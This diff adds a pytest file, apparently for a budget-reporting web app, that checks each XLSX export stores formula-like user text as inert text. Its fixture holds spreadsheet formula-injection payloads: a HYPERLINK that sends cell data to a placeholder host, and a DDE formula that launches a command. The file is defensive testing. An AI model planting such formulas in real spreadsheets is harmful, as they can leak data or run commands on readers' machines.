@@ -1,0 +1,204 @@
+"""Every XLSX the app produces (issue 11, item 8): user text that a spreadsheet would run as a
+formula (`= + - @`, or led by a tab or CR) is stored as text, never as a formula cell, and reads
+back exactly as typed; numbers stay numbers. The exports are found from the routes: a new
+endpoint that answers with an XLSX, or a new module that builds a Workbook without the shared
+writer, fails this file until it is covered."""
+import inspect
+import io
+import re
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from models import FundingSource, db
+
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+ROOT = Path(__file__).resolve().parents[2]
+YEAR = 2061
+
+HOSTILE = {
+    "opd_name": '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
+    "opd_code": "=1+1",
+    "opd_short": "+Dinsos",
+    "sa_name": "+SUM(1;2) sub kegiatan",
+    "program_name": "-2+3 program",
+    "activity_name": "@SUM(A1:A2) kegiatan",
+    "tag_description": "\t=1+2 aktivitas",
+    "village_name": "=DDE(\"cmd\";\"/c calc\";\"x\")",
+    "funding_code": "@FS",
+    "funding_name": "=1+2 sumber",
+    "sa_location": "-lokasi",
+}
+
+# Every endpoint that can answer with an XLSX, and how this file asks it for one.
+XLSX_ENDPOINTS = {"budget.import_template", "review.compliance", "reports.index",
+                  "reports.build_file", "api_reports.get_file"}
+# Endpoints that send a file that is never an XLSX (checked the same way).
+OTHER_FILE_ENDPOINTS = {"static", "api-docs.openapi_json"}
+
+
+@pytest.fixture
+def hostile(make):
+    fy = make.fiscal_year(YEAR)
+    opd = make.opd(name=HOSTILE["opd_name"], code=HOSTILE["opd_code"],
+                   short_name=HOSTILE["opd_short"])
+    funding = FundingSource(code=HOSTILE["funding_code"], name=HOSTILE["funding_name"])
+    db.session.add(funding)
+    db.session.flush()
+    sa = make.sub_activity(opd, fy, "900000000", name=HOSTILE["sa_name"],
+                           program_name=HOSTILE["program_name"],
+                           activity_name=HOSTILE["activity_name"], funding_source=funding,
+                           location=HOSTILE["sa_location"])
+    tag = make.tag(sa, "300000000", description=HOSTILE["tag_description"])
+    village = make.village(fy=fy, priority=True, desil1=40)
+    village.name = HOSTILE["village_name"]
+    make.tag_village(tag, village)
+    for n in (1, 2, 3):
+        make.realization(tag, make.quarter(fy, n), str(50000000 * n), progress="30", reached=5)
+        make.submission(opd, make.quarter(fy, n), "verified")
+    db.session.flush()
+    return opd
+
+
+def _cells(data: bytes):
+    wb = load_workbook(io.BytesIO(data))
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            yield from row
+
+
+def _check(data: bytes, expected: set[str], label: str) -> list:
+    cells = list(_cells(data))
+    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
+    assert not formulas, (label, formulas)
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    for key in expected:
+        assert HOSTILE[key] in texts, (label, key, HOSTILE[key])
+    for c in cells:
+        if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r")):
+            assert c.data_type == "s" and c.quotePrefix, (label, c.coordinate, c.value)
+    return cells
+
+
+def _exports(client, make, login, opd):
+    """(label, response, hostile keys its sheets must show) for every XLSX the app makes."""
+    login(make.user("opd", opd_obj=opd))
+    yield ("import template", client.get("/sub-kegiatan/impor/templat"),
+           {"funding_code", "funding_name"})
+    login(make.user("secretariat"))
+    yield ("compliance board", client.get(f"/verifikasi/kepatuhan?tahun={YEAR}&format=xlsx"),
+           {"opd_name", "opd_code"})
+    base = {"fmt": "xlsx", "year": YEAR, "quarter": 3, "semester": 1, "number": "=1+1",
+            "include_unverified": "y"}
+    report_keys = {"opd_name", "sa_name", "program_name", "activity_name", "tag_description"}
+    for variant, opd_id in (("quarterly", 0), ("semester", 0), ("plan", 0), ("opd", opd.id)):
+        yield (f"report {variant}",
+               client.post("/laporan/", data={**base, "variant": variant, "opd_id": opd_id}),
+               report_keys | ({"village_name"} if variant != "opd" else set()))
+    # The API's background build: built here by the job function itself, fetched by token.
+    from app.services.api_tokens import create_token
+    from reports.builds import request_build, run_build
+
+    user = make.user("secretariat")
+    build, _ = request_build("xlsx", user=user, year=YEAR, variant="quarterly", quarter=3,
+                             include_unverified=True, number="=1+1")
+    run_build(build.id)
+    _, secret = create_token(user, "uji xlsx")
+    yield ("api report build", client.get(f"/api/v1/reports/{build.id}/file",
+                                          headers={"Authorization": f"Bearer {secret}"}),
+           report_keys | {"village_name"})
+    login(user)
+    yield ("report build file", client.get(f"/laporan/bangun/{build.id}/berkas"),
+           report_keys | {"village_name"})
+
+
+def test_every_export_stores_hostile_text_as_text(client, make, login, hostile):
+    seen = set()
+    for label, resp, keys in _exports(client, make, login, hostile):
+        assert resp.status_code == 200, (label, resp.get_data(as_text=True)[:300])
+        assert resp.mimetype == XLSX, label
+        cells = _check(resp.data, keys, label)
+        seen.add(label)
+        if label.startswith(("compliance", "report")):
+            # Numbers stay numbers: the tagged amount is a numeric cell, not text.
+            numbers = [c.value for c in cells if isinstance(c.value, (int, float))
+                       and not isinstance(c.value, bool)]
+            assert any(Decimal(str(v)) == Decimal("300000000") for v in numbers), label
+    assert len(seen) == 8
+
+
+def test_compliance_board_no_longer_writes_the_opd_name_as_a_formula(client, make, login,
+                                                                       hostile):
+    login(make.user("secretariat"))
+    resp = client.get(f"/verifikasi/kepatuhan?tahun={YEAR}&format=xlsx")
+    ws = load_workbook(io.BytesIO(resp.data)).active
+    name = next(c for row in ws.iter_rows() for c in row if c.value == HOSTILE["opd_name"])
+    assert name.data_type == "s" and name.quotePrefix
+
+
+def test_writer_keeps_numbers_and_replaces_characters_xlsx_cannot_hold():
+    from openpyxl import Workbook
+
+    from reports import xlsx_writer
+
+    wb = Workbook()
+    ws = wb.active
+    xlsx_writer.append_row(ws, [Decimal("-1250000.50"), -3, "-", "a\x01b", "=A1", None])
+    ws["A2"] = "=SUM(A1)"  # written around the helper: the last sweep still neutralises it
+    cells = list(_cells(xlsx_writer.to_bytes(wb)))
+    by = {c.coordinate: c for c in cells}
+    assert by["A1"].data_type == "n" and by["A1"].value == -1250000.5
+    assert by["B1"].value == -3 and by["B1"].data_type == "n"
+    assert by["C1"].value == "-" and by["C1"].data_type == "s"
+    assert by["D1"].value == "a\ufffdb"
+    assert by["E1"].value == "=A1" and by["E1"].data_type == "s"
+    assert by["A2"].value == "=SUM(A1)" and by["A2"].data_type == "s" and by["A2"].quotePrefix
+
+
+def _view_source(app, endpoint) -> str:
+    func = inspect.unwrap(app.view_functions[endpoint])
+    return inspect.getsource(func)
+
+
+def test_every_file_sending_endpoint_is_classified(app):
+    """A view that sends a file must be listed here: as an XLSX export (and then walked by
+    the test above) or as a file that is never an XLSX."""
+    senders = {rule.endpoint for rule in app.url_map.iter_rules()
+               if rule.endpoint != "static"
+               and re.search(r"send_file|send_from_directory|mimetype=|spreadsheetml",
+                             _view_source(app, rule.endpoint))}
+    assert senders <= XLSX_ENDPOINTS | OTHER_FILE_ENDPOINTS, senders - XLSX_ENDPOINTS
+    # A listed export that no longer exists: update the list.
+    assert XLSX_ENDPOINTS <= set(app.view_functions)
+
+
+@pytest.mark.parametrize("role", ["opd", "secretariat", "viewer", "admin"])
+def test_no_unlisted_get_route_answers_with_an_xlsx(app, client, make, login, role, hostile):
+    """Every GET route without path arguments, plain and with ?format=xlsx, as each role."""
+    login(make.user(role, opd_obj=hostile if role == "opd" else None))
+    tried = 0
+    for rule in app.url_map.iter_rules():
+        if "GET" not in rule.methods or rule.arguments or rule.endpoint == "static":
+            continue
+        for query in ("", f"?format=xlsx&tahun={YEAR}"):
+            resp = client.get(rule.rule + query)
+            tried += 1
+            assert resp.status_code < 500, (rule.rule, query)
+            if resp.mimetype == XLSX:
+                assert rule.endpoint in XLSX_ENDPOINTS, rule.endpoint
+                _check(resp.data, set(), rule.endpoint)
+            resp.close()
+    assert tried > 40
+
+
+def test_every_workbook_is_saved_through_the_shared_writer():
+    """No module builds a Workbook and saves it by itself."""
+    offenders = []
+    for path in [*ROOT.joinpath("app").rglob("*.py"), *ROOT.joinpath("reports").rglob("*.py")]:
+        text = path.read_text(encoding="utf-8")
+        if "Workbook(" in text and ("xlsx_writer.to_bytes" not in text
+                                    or re.search(r"\bwb\.save\(|\.save\(\w*buf", text)):
+            offenders.append(str(path.relative_to(ROOT)))
+    assert not offenders, offenders
